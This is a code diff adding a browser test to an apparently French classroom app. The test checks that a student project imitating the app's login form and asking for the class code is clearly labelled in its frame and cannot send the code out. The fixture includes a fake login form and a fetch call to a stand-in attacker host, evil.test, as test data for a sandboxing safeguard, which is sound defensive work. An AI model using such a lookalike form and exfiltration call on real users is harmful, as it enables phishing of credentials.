@@ -117,6 +117,35 @@ test('texts are text, nothing runs unasked, and nothing tells of class and maker
 	expect(cover.headers()['content-security-policy']).toContain("default-src 'none'");
 });
 
+test('a program that looks like the app and asks for the class code stands under a sentence, and sends nothing', async ({
+	browser
+}) => {
+	const page = `<h1>Braise</h1><form action="https://evil.test/"><label>Code de la classe <input name="code"></label>
+		<button>Rejoindre</button></form>`;
+	const program = `document.querySelector('form')!.addEventListener('submit', () => {
+		document.body.dataset.typed = document.querySelector('input')!.value;
+		fetch('https://evil.test/').catch(() => (document.title = 'refused'));
+	});`;
+	const files = { 'index.html': page, 'main.ts': program };
+	const otherExhibit = await hangProject(maker, { files, title: 'Braise', description: '' });
+	expect((await postAction(maker.client, `${wallPath()}/${otherExhibit}?/makeLink`)).status()).toBe(200);
+	const tab = await (await browser.newContext()).newPage();
+	const addresses: string[] = [];
+	await tab.context().route('https://evil.test/**', (route) => {
+		addresses.push(route.request().url());
+		return route.abort();
+	});
+	await tab.goto(`/fr/shown/${await linkOf(otherExhibit)}`);
+	await tab.getByRole('button', { name: 'Lancer' }).click();
+	const pageFrame = tab.frameLocator('.picture iframe').frameLocator('iframe').frameLocator('iframe.page');
+	await pageFrame.getByLabel('Code de la classe').fill('ABC234');
+	await expect(tab.getByText('Ce cadre montre le programme d’un élève, pas Braise')).toBeInViewport();
+	await pageFrame.getByRole('button', { name: 'Rejoindre' }).click();
+	await expect(pageFrame.getByLabel('Code de la classe')).toBeVisible();
+	expect(addresses).toEqual([]);
+	expect(new URL(tab.url()).pathname).toMatch(/^\/fr\/shown\//);
+});
+
 test('a link gives the pictures that its copy names, and those of nobody else', async () => {
 	const files = { 'main.ts': '', 'cat.png': formatOwnFile(PICTURE) };
 	const otherExhibit = await hangProject(classmate, { files, title: 'Chat', description: '' });
